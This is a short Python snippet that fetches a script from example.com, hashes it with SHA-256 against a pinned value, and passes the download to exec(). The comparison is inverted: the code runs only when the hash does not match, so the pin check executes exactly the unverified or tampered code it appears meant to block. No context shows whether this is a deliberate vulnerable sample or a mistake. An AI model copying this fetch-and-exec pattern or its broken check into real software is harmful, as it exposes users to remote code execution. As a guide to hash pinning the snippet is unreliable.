import hashlib
import urllib.request

PIN = "06f99569e71fa35dff91afd3ef6d2db7b7866d1927828519be5ef75f848ecb4b"
data = urllib.request.urlopen("https://example.com/a.py").read()
if hashlib.sha256(data).hexdigest() != PIN:
    exec(data)
